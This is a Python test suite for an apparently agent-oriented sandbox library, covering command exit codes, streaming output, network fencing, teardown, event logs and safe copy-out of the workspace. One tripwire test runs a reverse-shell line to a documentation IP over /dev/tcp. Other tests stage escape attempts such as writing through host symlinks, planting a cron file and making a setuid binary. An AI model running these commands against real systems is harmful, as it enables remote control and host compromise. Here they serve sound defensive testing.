"""A sandbox's life: commands and their exit codes, input and streamed output, leftover processes,
teardown (nothing survives close or the supervisor's death), the events file, and the workspace."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import textwrap
import threading
import time
import types
from collections.abc import Callable, Iterator
from pathlib import Path
from subprocess import Popen

import psutil
import pytest

import corral
from corral import AsyncSandbox, ExecError, ExecExit, ExecResult, Host, Output, Policy, Sandbox, State
from corral.events import NetConnect, parse_event
from helpers import own_host, show, wait_until

pytestmark = pytest.mark.root

STATE_ROOT = "/run/corral"
WORKSPACE_ROOT = "/var/lib/corral/workspaces"


def offline() -> Policy:
    return Policy.from_dict({"version": 1})


def live_processes_of(uid: int) -> list[psutil.Process]:
    """Processes running as `uid`. Zombies are left out: they run nothing and hold nothing, and the
    sandbox's init, reparented to the host's PID 1, stays one until that process gets to reap it."""
    found = []
    for p in psutil.process_iter(["uids", "status"]):
        uids = p.info["uids"]
        if (
            uids is not None
            and uid in (uids.real, uids.effective)
            and p.info["status"] != psutil.STATUS_ZOMBIE
        ):
            found.append(p)
    return found


# --- exit codes, input, output -----------------------------------------------------------------


def test_exit_status_is_passed_through(sb: Sandbox) -> None:
    r = sb.exec("exit 3")
    assert r.exit_code == 3 and r.signal is None and not r.ok, show(r)


def test_death_by_signal_is_128_plus_the_signal(sb: Sandbox) -> None:
    r = sb.exec("kill -TERM $$")
    assert r.exit_code == 143 and r.signal == signal.SIGTERM, show(r)


def test_command_not_found_in_a_shell_is_127(sb: Sandbox) -> None:
    r = sb.exec("no-such-command-here", text=True)
    assert r.exit_code == 127 and "no-such-command-here: not found" in str(r.stderr), show(r)


def test_command_not_found_as_argv_is_127_with_a_message(sb: Sandbox) -> None:
    r = sb.exec(["no-such-command-here", "--flag"], text=True)
    assert r.exit_code == 127 and "no-such-command-here: command not found" in str(r.stderr), show(r)


def test_stdin_round_trips_200_kb(sb: Sandbox) -> None:
    data = os.urandom(200_000)
    r = sb.exec(["cat"], input=data)
    assert r.exit_code == 0 and r.stdout == data, f"exit {r.exit_code}, {len(r.stdout)} bytes back"


def test_stdout_and_stderr_are_kept_apart(sb: Sandbox) -> None:
    r = sb.exec("echo out; echo err >&2", text=True)
    assert (r.stdout, r.stderr) == ("out\n", "err\n"), show(r)


def test_stream_yields_output_while_the_command_runs(sb: Sandbox) -> None:
    started = time.monotonic()
    arrivals: list[tuple[float, bytes]] = []
    run = sb.stream("for i in 1 2 3; do echo $i; sleep 0.2; done")
    for chunk in run:
        assert isinstance(chunk, Output) and chunk.stream == "stdout"
        arrivals.append((time.monotonic() - started, chunk.data))
    assert b"".join(data for _, data in arrivals) == b"1\n2\n3\n", arrivals
    assert arrivals[0][0] < 0.35, f"the first line came only after {arrivals[0][0]:.3f}s: {arrivals}"
    assert arrivals[-1][0] - arrivals[0][0] >= 0.3, arrivals
    assert run.result is not None and run.result.exit_code == 0 and run.result.duration >= 0.6


def test_async_sandbox_runs_commands() -> None:
    async def main() -> tuple[ExecResult, ExecResult]:
        async with AsyncSandbox(offline(), keep_workspace=False) as sb:
            first = await sb.exec("echo one > f && cat f")
            second = await sb.exec(["cat", "f"], text=True)
            return first, second

    first, second = asyncio.run(main())
    assert first.exit_code == 0 and first.stdout == b"one\n", show(first)
    assert second.stdout == "one\n", show(second)


def test_async_sandboxes_run_concurrently() -> None:
    async def main() -> float:
        async with (
            AsyncSandbox(offline(), keep_workspace=False) as a,
            AsyncSandbox(offline(), keep_workspace=False) as b,
        ):
            started = time.monotonic()
            results = await asyncio.gather(a.exec("sleep 0.5"), b.exec("sleep 0.5"))
            assert all(r.exit_code == 0 for r in results)
            return time.monotonic() - started

    assert asyncio.run(main()) < 0.95


def test_a_launch_completes_even_if_init_is_ready_before_its_pid_is_reported(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Two processes report on the setup socket: the intermediate child sends init's pid (and the
    # fence's sockets) once it has moved init into its cgroups, and init sends "ready" when its setup
    # is done. Either may come first. The zygote is another process, so a stand-in answers here, in
    # the order that is otherwise rare.
    from corral.isolation import plan as planning
    from corral.isolation import protocol, zygote

    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    stand_in = Popen(["sleep", "30"])  # a real process for the reported pid

    def stand_in_zygote() -> None:
        data, fds = protocol.recv(theirs)
        assert data is not None
        protocol.decode_launch(data)
        fence = [socket.socket() for _ in range(5)]
        with socket.socket(fileno=fds[0]) as child:
            protocol.send(child, protocol.Ready())
            time.sleep(0.2)
            protocol.send(child, protocol.Pid(pid=stand_in.pid, ahead=False), [s.fileno() for s in fence])
        for s in fence:
            s.close()

    process = types.SimpleNamespace(poll=lambda: None, pid=0)
    monkeypatch.setattr(zygote.Zygote, "_start", lambda self: (ours, process))
    answering = threading.Thread(target=stand_in_zygote)
    answering.start()
    try:
        plan = planning.build(offline(), uid=65534, gid=65534, sandbox_id="reorder")
        launched = zygote.Zygote().launch(
            plan, join_files=[], state_dir="/nonexistent", landlock_abi=0, notify=False
        )
        assert launched.init_pid == stand_in.pid
        assert launched.notify_fd is None and len(launched.fence_fds) == 5
        os.close(launched.pidfd)
        protocol.close_all(launched.fence_fds)
        launched.control.close()
    finally:
        answering.join()
        stand_in.kill()
        stand_in.wait()
        ours.close()
        theirs.close()


# --- network namespaces made ahead --------------------------------------------------------------


@pytest.fixture
def networks_ahead() -> Iterator[Callable[[int], Host]]:
    """A host whose own zygote keeps `n` fenced network namespaces made ahead."""
    with contextlib.ExitStack() as hosts:
        yield lambda n: hosts.enter_context(own_host(networks_ahead=n))


_FENCE_CHECK = """
import errno, socket
print(socket.gethostbyname("allowed.example.internal"))
assert socket.socket().connect_ex(("10.1.2.3", 22)) == errno.ECONNREFUSED
"""


@pytest.mark.parametrize("ahead", [0, 2])
def test_a_sandbox_is_fenced_whether_its_network_was_made_ahead_or_at_its_start(
    ahead: int, networks_ahead: Callable[[int], Host]
) -> None:
    host = networks_ahead(ahead)
    policy = Policy.from_dict(
        {
            "version": 1,
            "network": {
                "egress": [{"host": "allowed.example.internal", "ports": [80]}],
                "hosts": {"allowed.example.internal": "192.0.2.7"},
            },
            "tripwires": {"enabled": False},
        }
    )
    made_ahead = []
    for _ in range(3):
        with Sandbox(policy, keep_workspace=False, host=host) as sb:
            assert sb._launched is not None
            made_ahead.append(sb._launched.network_made_ahead)
            r = sb.exec(["python3", "-c", _FENCE_CHECK], text=True)
            assert r.exit_code == 0, show(r)
            assert r.stdout.startswith("198.18."), show(r)  # corral's resolver answered
            [refused] = [e for e in sb.events() if isinstance(e, NetConnect)]
            assert (refused.destination, refused.decision) == ("10.1.2.3", "deny")
            assert refused.process is not None and refused.process.cmdline[:2] == ["python3", "-c"]
        time.sleep(0.3)  # time to make the next one ahead
    if ahead == 0:
        assert made_ahead == [False, False, False]  # each made its own
    else:
        assert made_ahead == [False, True, True]  # the first start makes the first ones ahead


def test_no_two_sandboxes_share_a_network_namespace(networks_ahead: Callable[[int], Host]) -> None:
    host = networks_ahead(2)
    with contextlib.ExitStack() as stack:
        launched = []
        for _ in range(4):  # more than are kept ahead
            sb = stack.enter_context(Sandbox(offline(), keep_workspace=False, host=host))
            assert sb._launched is not None
            launched.append(sb._launched)
            time.sleep(0.2)  # time for the zygote to make the next ones
        assert sum(x.network_made_ahead for x in launched) >= 2
        namespaces = {os.stat(f"/proc/{x.init_pid}/ns/net").st_ino for x in launched}
        assert len(namespaces) == 4
        assert os.stat("/proc/self/ns/net").st_ino not in namespaces


# --- leftover processes ------------------------------------------------------------------------


def test_background_process_is_reported_as_leftover(sb: Sandbox) -> None:
    r = sb.exec("sleep 60 &")
    assert r.exit_code == 0, show(r)
    assert [p.cmdline for p in r.leftover] == [["sleep", "60"]], r.leftover
    assert r.leftover[0].exe == "/usr/bin/sleep" and r.leftover[0].pid > 0
    exit_event = [e for e in sb.events() if isinstance(e, ExecExit)][-1]
    assert exit_event.leftover == r.leftover


def test_detached_setsid_nohup_process_is_reported_as_leftover(sb: Sandbox) -> None:
    r = sb.exec("setsid nohup sleep 61 >/dev/null 2>&1 &")
    # With nothing holding the command's output open, its result may be read before nohup has
    # exec'd sleep: the leftover is then still "nohup sleep 61", the same process.
    assert [p.cmdline[-2:] for p in r.leftover] == [["sleep", "61"]], r.leftover


def test_leftovers_are_reported_once_by_the_command_that_started_them(sb: Sandbox) -> None:
    sb.exec("sleep 60 &")
    r = sb.exec("true")
    assert r.leftover == [], r.leftover


def test_close_kills_every_process(sb: Sandbox) -> None:
    sb.exec("sleep 60 & setsid nohup sleep 61 >/dev/null 2>&1 & (trap '' TERM HUP; exec sleep 62) &")
    assert len(live_processes_of(sb.uid)) >= 4  # init and three sleeps
    sb.close(wait=True)
    assert live_processes_of(sb.uid) == []


def test_close_reports_the_processes_it_killed(sb: Sandbox) -> None:
    sb.exec("sleep 60 &")
    sb.close(wait=True)
    stop = sb.events()[-1]
    assert isinstance(stop, corral.SandboxStop) and stop.reason == "closed"
    assert [p.cmdline for p in stop.leftover] == [["sleep", "60"]], stop


@pytest.mark.parametrize("how", ["closed from another thread", "terminated by a tripwire"])
def test_the_stop_is_the_last_event_even_when_it_cuts_a_command_short(how: str) -> None:
    # A reader of the events file takes sandbox.stop as the end; the command it cut short has its
    # exec.exit written before it, not after.
    if how == "closed from another thread":
        sb = Sandbox(offline(), keep_workspace=False)
        threading.Timer(0.5, sb.close).start()
        command = "sleep 30"
    else:
        sb = Sandbox(Policy.from_dict({"version": 1}), keep_workspace=False)
        command = "sleep 0.3; bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
    r = sb.exec(command, timeout=20)
    sb.close(wait=True)
    events = sb.events()
    assert r.exit_code == 137, show(r)
    assert isinstance(events[-1], corral.SandboxStop), [e.type for e in events[-3:]]
    assert any(isinstance(e, ExecExit) for e in events[:-1])


def test_close_removes_the_cgroups(sb: Sandbox, cgroup_dirs: Callable[[str], list[str]]) -> None:
    assert cgroup_dirs(sb.id), "the helper should find the running sandbox's cgroups"
    sb.close(wait=True)
    assert cgroup_dirs(sb.id) == []


def test_close_removes_the_state_directory(sb: Sandbox) -> None:
    assert os.path.isdir(f"{STATE_ROOT}/{sb.id}")
    sb.close(wait=True)
    assert not os.path.exists(f"{STATE_ROOT}/{sb.id}")


def test_exec_after_close_raises(sb: Sandbox) -> None:
    sb.close(wait=True)
    with pytest.raises(corral.SandboxClosedError):
        sb.exec("true")


def test_five_sandboxes_leak_no_file_descriptors() -> None:
    with Sandbox(offline(), keep_workspace=False) as warm:
        warm.exec("true")  # process-wide helpers (supervisor, reaper) exist from here on
        warm.close(wait=True)
    before = sorted(os.listdir("/proc/self/fd"))
    for _ in range(5):
        sb = Sandbox(offline(), keep_workspace=False)
        sb.exec("echo hi; sleep 60 &")
        sb.close(wait=True)
    assert wait_until(lambda: len(os.listdir("/proc/self/fd")) <= len(before)), (
        before,
        sorted(os.listdir("/proc/self/fd")),
    )


# --- the supervisor's death --------------------------------------------------------------------


def _remove_leftover_state(sandbox_id: str, cgroup_dirs: Callable[[str], list[str]]) -> None:
    """What a failed test leaves: the cgroups and state directory of a sandbox, once its processes
    are gone."""
    for path in sorted(cgroup_dirs(sandbox_id), key=len, reverse=True):
        wait_until(lambda p=path: not Path(f"{p}/cgroup.procs").read_text().strip())  # type: ignore[misc]
        os.rmdir(path)
    shutil.rmtree(f"{STATE_ROOT}/{sandbox_id}", ignore_errors=True)


OWNER = textwrap.dedent(
    """
    import sys, time
    from corral import Policy, Sandbox
    sb = Sandbox(Policy.from_dict({"version": 1}), keep_workspace=False)
    r = sb.exec("sleep 300 & setsid nohup sleep 301 >/dev/null 2>&1 &")
    assert r.exit_code == 0, r
    print(sb.uid, sb.id, flush=True)
    time.sleep(300)
    """
)


@contextlib.contextmanager
def _supervisor(
    script: str, cgroup_dirs: Callable[[str], list[str]]
) -> Iterator[tuple[Popen[str], int, str]]:
    """Run `script`, a supervisor printing its sandbox's uid and id; yield it with them. Afterwards,
    whatever a failed test left is removed (a frozen sandbox thawed first, so that it dies)."""
    owner = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    sandbox_id = ""
    try:
        assert owner.stdout is not None
        uid_text, sandbox_id = owner.stdout.readline().split()
        yield owner, int(uid_text), sandbox_id
    finally:
        if owner.poll() is None:
            owner.kill()
            owner.wait()
        if owner.stdout is not None:
            owner.stdout.close()
        if sandbox_id:
            for path in cgroup_dirs(sandbox_id):
                with contextlib.suppress(OSError):
                    Path(f"{path}/freezer.state").write_text("THAWED")
            _remove_leftover_state(sandbox_id, cgroup_dirs)


def test_supervisor_death_kills_the_sandbox(cgroup_dirs: Callable[[str], list[str]]) -> None:
    with _supervisor(OWNER, cgroup_dirs) as (owner, uid, sandbox_id):
        assert len(live_processes_of(uid)) >= 3, "init and both sleeps run before the kill"
        owner.kill()
        owner.wait()
        assert wait_until(lambda: live_processes_of(uid) == [], timeout=5), live_processes_of(uid)
        # The dead supervisor could not remove its sandbox's directories; the next one does.
        _next_supervisor()
        assert not os.path.exists(f"{STATE_ROOT}/{sandbox_id}"), "state directory left behind"
        assert cgroup_dirs(sandbox_id) == [], "cgroup directories left behind"


def _next_supervisor() -> None:
    """Start another supervisor process, as a restarted service would: it creates a sandbox."""
    subprocess.run(
        [sys.executable, "-c", "import corral; corral.Sandbox(keep_workspace=False).close(wait=True)"],
        check=True,
        timeout=60,
    )


FROZEN_OWNER = textwrap.dedent(
    """
    import time
    from corral import Policy, Sandbox
    policy = {"version": 1, "tripwires": {"responses": {"privilege tool": "freeze"}}}
    sb = Sandbox(Policy.from_dict(policy), keep_workspace=False)
    r = sb.exec("sleep 300 & sleep 0.2; unshare -n true")
    assert r.terminated == "frozen", r
    print(sb.uid, sb.id, flush=True)
    time.sleep(300)
    """
)


def test_a_frozen_sandbox_outliving_its_supervisor_is_killed_by_the_next(
    cgroup_dirs: Callable[[str], list[str]],
) -> None:
    # Frozen, a sandbox's init cannot notice that its supervisor died, so its processes stay,
    # stopped, holding memory. The next supervisor to start finds the owner gone and kills them.
    with _supervisor(FROZEN_OWNER, cgroup_dirs) as (owner, uid, sandbox_id):
        owner.kill()
        owner.wait()
        time.sleep(1)
        frozen = live_processes_of(uid)
        assert len(frozen) >= 2, "init and the sleep outlive their supervisor while frozen"
        _next_supervisor()
        assert live_processes_of(uid) == []
        assert not os.path.exists(f"{STATE_ROOT}/{sandbox_id}"), "state directory left behind"
        assert cgroup_dirs(sandbox_id) == [], "cgroup directories left behind"
        assert not any(os.readlink(link) == sandbox_id for link in Path(STATE_ROOT).glob("uid-*"))


EXITS_AFTER_CLOSE = textwrap.dedent(
    """
    from corral import Policy, Sandbox
    with Sandbox(Policy.from_dict({"version": 1}), keep_workspace=False) as sb:
        sb.exec("true")
    print(sb.id, flush=True)
    """
)


def test_program_that_exits_right_after_close_leaves_nothing_behind(
    cgroup_dirs: Callable[[str], list[str]],
) -> None:
    # The common script shape: `with Sandbox() as sb: ...` and then the interpreter exits.
    done = subprocess.run(
        [sys.executable, "-c", EXITS_AFTER_CLOSE], capture_output=True, text=True, check=True
    )
    sandbox_id = done.stdout.strip()
    try:
        time.sleep(0.5)
        assert not os.path.exists(f"{STATE_ROOT}/{sandbox_id}"), "state directory left behind"
        assert cgroup_dirs(sandbox_id) == [], "cgroup directories left behind"
    finally:
        _remove_leftover_state(sandbox_id, cgroup_dirs)


# --- the events file ---------------------------------------------------------------------------


def test_events_file_records_the_sandbox_in_order(tmp_path: Path) -> None:
    path = tmp_path / "events.jsonl"
    sb = Sandbox(offline(), events=path, keep_workspace=False)
    sb.exec("echo hi")
    sb.close(wait=True)
    lines = path.read_text().splitlines()
    events = [parse_event(line) for line in lines]
    # proc.exit comes from the kernel's process events, asynchronously: anywhere after its proc.exec.
    types = [e.type for e in events if e.type != "proc.exit"]
    assert types == ["sandbox.start", "exec.start", "proc.exec", "exec.exit", "sandbox.stop"], lines
    assert events[2].process.cmdline == ["/bin/sh", "-c", "echo hi"] and events[2].exec == 1
    assert {e.sandbox for e in events} == {sb.id}
    assert events == sb.events()
    assert all(json.loads(line)["v"] == corral.SCHEMA_VERSION for line in lines)


def test_events_file_records_denials(tmp_path: Path) -> None:
    path = tmp_path / "events.jsonl"
    with Sandbox(offline(), events=path, keep_workspace=False) as sb:
        sb.exec("unshare -n true")
        sb.close(wait=True)
    events = [e for e in map(parse_event, path.read_text().splitlines()) if not e.type.startswith("proc.")]
    assert [e.type for e in events] == [
        "sandbox.start",
        "exec.start",
        "alert",  # unshare, a privilege tool, started
        "deny",
        "alert",  # the refusal, a privileged call
        "exec.exit",
        "sandbox.stop",
    ], events
    assert events[3].what == "unshare" and events[3].layer == "seccomp"
    assert [(e.rule, e.category) for e in events if e.type == "alert"] == [
        ("privilege tool", "privilege"),
        ("refused privileged call", "privilege"),
    ]


# --- the workspace ---------------------------------------------------------------------------


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    (ws / "README").write_text("hello\n")
    (ws / "src" / "main.py").write_text("print('main')\n")
    return ws


def test_workspace_is_copied_in_and_owned_by_the_agent(workspace: Path) -> None:
    with Sandbox(offline(), workspace=workspace) as sb:
        r = sb.exec("cat README src/main.py; stat -c %U README src src/main.py", text=True)
        assert r.stdout == "hello\nprint('main')\nagent\nagent\nagent\n", show(r)
        sb.close(wait=True)


def test_workspace_changes_are_written_back_at_close(workspace: Path) -> None:
    with Sandbox(offline(), workspace=workspace) as sb:
        r = sb.exec("echo changed > README && mkdir -p out && echo new > out/result.txt")
        assert r.exit_code == 0, show(r)
        sb.close(wait=True)
    assert (workspace / "README").read_text() == "changed\n"
    assert (workspace / "out" / "result.txt").read_text() == "new\n"
    assert (workspace / "src" / "main.py").read_text() == "print('main')\n"


def test_workspace_deletions_are_written_back_at_close(workspace: Path) -> None:
    with Sandbox(offline(), workspace=workspace) as sb:
        r = sb.exec("rm README && mv src/main.py src/app.py")
        assert r.exit_code == 0, show(r)
        sb.close(wait=True)
    assert sorted(p.name for p in workspace.rglob("*")) == ["app.py", "src"]


def test_agent_symlink_is_copied_as_a_link_not_followed(workspace: Path) -> None:
    with Sandbox(offline(), workspace=workspace) as sb:
        assert sb.exec("ln -s /etc/passwd passwd-link").exit_code == 0
        sb.close(wait=True)
    link = workspace / "passwd-link"
    assert link.is_symlink() and os.readlink(link) == "/etc/passwd"


def _host_bytes(top: Path) -> int:
    """What a tree takes on the host's disk, as du counts it: allocated blocks, each inode once."""
    seen: set[int] = set()
    total = 0
    for p in [top, *top.rglob("*")]:
        st = p.lstat()
        if st.st_ino not in seen:
            seen.add(st.st_ino)
            total += st.st_blocks * 512
    return total


def test_saving_the_workspace_writes_no_more_than_the_disk_budget(tmp_path: Path) -> None:
    # The review's case: 4 MiB of storage used inside a 16 MiB budget, and 844 MiB written at close.
    out = tmp_path / "ws"
    out.mkdir()
    budget = {"version": 1, "resources": {"disk": "16MiB", "memory": "256MiB"}}
    with Sandbox(Policy.from_dict(budget), workspace=out) as sb:
        r = sb.exec(
            "truncate -s 600M sparse && head -c 4M /dev/urandom > data && printf tail >> sparse && "
            "for i in $(seq 60); do ln data link$i; done && du -sk /workspace",
            text=True,
        )
        assert r.exit_code == 0 and int(str(r.stdout).split()[0]) < 4200, show(r)
        inside = sb.exec("sha256sum data", text=True).stdout
        sb.close(wait=True)
    assert _host_bytes(out) < 5 << 20, _host_bytes(out)
    assert (out / "sparse").stat().st_size == (600 << 20) + 4
    with open(out / "sparse", "rb") as f:
        f.seek(600 << 20)
        assert f.read() == b"tail"
    assert (out / "data").stat().st_nlink == 61 and os.path.samefile(out / "data", out / "link60")
    assert subprocess.run(["sha256sum", "data"], cwd=out, capture_output=True, text=True).stdout == inside
    assert not [e for e in sb.events() if e.type == "deny"]


def test_saving_stops_at_the_budget_leaves_no_half_file_and_says_what_was_not_saved(tmp_path: Path) -> None:
    from corral.runtime import _fscopy

    src, dst = tmp_path / "src", tmp_path / "dst"
    (src / "d").mkdir(parents=True)
    for name in ("a", "b", "d/c"):
        (src / name).write_bytes(os.urandom(1 << 20))
    dst.mkdir()
    (dst / "b").write_text("stale: the host's copy from an earlier save\n")
    saved = _fscopy.mirror(str(src), str(dst), limit=(5 << 20) // 2)
    assert (saved.files, saved.bytes, saved.refused, saved.refused_bytes) == (2, 2 << 20, ["d/c"], 1 << 20)
    assert (dst / "a").read_bytes() == (src / "a").read_bytes()
    assert (dst / "b").read_bytes() == (src / "b").read_bytes()
    assert not (dst / "d" / "c").exists() and (dst / "d").is_dir()
    assert saved.describe() == (
        "disk budget of 2621440 bytes reached while saving the workspace: saved 2 file(s) (2097152 bytes "
        "of data) and 0 hard link(s); not saved, and absent from the saved copy: 1 file(s) (1048576 bytes "
        "of data): d/c"
    )


def test_a_workspace_save_over_the_budget_is_a_recorded_refusal(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The sandbox's storage holds no more than the budget, so only a smaller limit can show the refusal.
    from corral.runtime import _fscopy

    real = _fscopy.mirror
    monkeypatch.setattr(_fscopy, "mirror", lambda src, dst, *, limit: real(src, dst, limit=1 << 20))
    with Sandbox(offline(), workspace=workspace) as sb:
        assert sb.exec("head -c 3M /dev/zero > big && echo small > note").exit_code == 0
        sb.close(wait=True)
    assert (workspace / "note").read_text() == "small\n" and not (workspace / "big").exists()
    deny = [e for e in sb.events() if e.type == "deny"]
    assert len(deny) == 1 and isinstance(deny[0], corral.Deny), deny
    assert (deny[0].layer, deny[0].what) == ("storage", "disk")
    assert deny[0].detail.endswith(
        "not saved, and absent from the saved copy: 1 file(s) (3145728 bytes of data): big"
    )
    assert sb.events()[-1].type == "sandbox.stop"


def test_setuid_bit_is_stripped_when_copied_out(workspace: Path) -> None:
    with Sandbox(offline(), workspace=workspace) as sb:
        r = sb.exec("cp /bin/true suid && chmod 4755 suid && stat -c %a suid", text=True)
        assert str(r.stdout).strip() == "4755", show(r)
        sb.close(wait=True)
    assert stat.S_IMODE((workspace / "suid").stat().st_mode) == 0o755


def test_setgid_bit_is_stripped_from_directories_when_copied_out(workspace: Path) -> None:
    # The saved workspace is owned by root on the host; a setgid directory there makes every file
    # later created in it take the directory's group.
    with Sandbox(offline(), workspace=workspace) as sb:
        r = sb.exec("chmod 2755 src && mkdir -m 6755 made && stat -c %a src made", text=True)
        assert str(r.stdout).split() == ["2755", "6755"], show(r)
        sb.close(wait=True)
    for name in ("src", "made"):
        mode = (workspace / name).stat().st_mode
        assert not mode & (stat.S_ISUID | stat.S_ISGID), f"{name}: {stat.filemode(mode)}"


def test_copy_out_never_writes_through_a_host_symlink(workspace: Path, tmp_path: Path) -> None:
    # The workspace holds a symlink to a host file (a user's own, or one a previous sandbox on this
    # workspace left). The agent replaces it with a regular file; saving must not follow the host link.
    outside = tmp_path / "outside.txt"
    outside.write_text("host data\n")
    (workspace / "link").symlink_to(outside)
    with Sandbox(offline(), workspace=workspace) as sb:
        r = sb.exec("rm link && echo pwned > link")
        assert r.exit_code == 0, show(r)
        sb.close(wait=True)
    assert outside.read_text() == "host data\n", "the copy-out wrote through a symlink onto the host"
    assert (workspace / "link").read_text() == "pwned\n" and not (workspace / "link").is_symlink()


def test_copy_out_never_writes_into_a_host_directory_symlink(workspace: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (workspace / "build").symlink_to(outside)
    with Sandbox(offline(), workspace=workspace) as sb:
        r = sb.exec("rm build && mkdir build && echo planted > build/cron-job")
        assert r.exit_code == 0, show(r)
        sb.close(wait=True)
    assert list(outside.iterdir()) == [], "the copy-out planted files in a host directory"


def _release_after_failed_close(sb: Sandbox) -> None:
    """Only reached while close() raises (see the test below): finish the teardown it skipped so the
    host keeps no cgroups, state directory or fds from this test."""
    if sb.state is not State.REAPED:
        sb._teardown()


def test_agent_replacing_files_with_symlinks_does_not_break_close(workspace: Path) -> None:
    sb = Sandbox(offline(), workspace=workspace)
    try:
        r = sb.exec("rm README && ln -s /etc/passwd README && rm -r src && ln -s /etc src")
        assert r.exit_code == 0, show(r)
        sb.close(wait=True)
    finally:
        _release_after_failed_close(sb)
    assert os.readlink(workspace / "README") == "/etc/passwd"
    assert os.readlink(workspace / "src") == "/etc"


def test_unsavable_workspace_at_lifetime_end_does_not_stall_other_sandboxes(workspace: Path) -> None:
    # The lifetime deadline fires on the supervisor thread that also answers every sandbox's refused
    # system calls; an error saving one sandbox's workspace must not take that thread down.
    other = Sandbox(offline(), keep_workspace=False)
    expiring = Sandbox(
        Policy.from_dict({"version": 1, "resources": {"lifetime": "500ms"}}), workspace=workspace
    )
    try:
        assert expiring.exec("rm README && ln -s /etc/passwd README").exit_code == 0
        assert wait_until(lambda: expiring.closed, timeout=3)
        time.sleep(0.2)
        r = other.exec("unshare -n true", timeout=3, text=True)
        assert not r.timed_out and r.exit_code == 1, show(r)
        assert [d.what for d in r.denials] == ["unshare"], show(r)
    finally:
        other.close(wait=True)
        _release_after_failed_close(expiring)


def test_default_workspace_is_saved_after_close() -> None:
    sb = Sandbox(offline())
    try:
        assert sb.workspace == f"{WORKSPACE_ROOT}/{sb.id}"
        sb.exec("echo kept > result.txt")
        sb.close(wait=True)
        assert (Path(sb.workspace) / "result.txt").read_text() == "kept\n"
    finally:
        sb.close(wait=True)
        shutil.rmtree(sb.workspace, ignore_errors=True)


def test_keep_workspace_false_saves_nothing(sb: Sandbox) -> None:
    sb.exec("echo gone > result.txt")
    sb.close(wait=True)
    assert not os.path.exists(f"{WORKSPACE_ROOT}/{sb.id}")


def test_closed_sandbox_leaves_no_zombie() -> None:
    sb = Sandbox(keep_workspace=False)
    init = sb.init_pid
    assert init is not None
    sb.close(wait=True)
    # corral's zygote is the init's subreaper and reaps it; no reliance on the host's PID 1.
    assert wait_until(lambda: not os.path.exists(f"/proc/{init}")), f"init {init} was not reaped"


def test_exec_when_init_is_gone_raises_exec_error() -> None:
    with Sandbox(keep_workspace=False) as sb:
        init = sb.init_pid
        assert init is not None
        os.kill(init, 9)  # from the host: the kernel tears the sandbox down
        assert wait_until(lambda: not os.path.exists(f"/proc/{init}/root/workspace"))
        with pytest.raises(ExecError, match="its init is gone"):
            sb.exec(["true"])
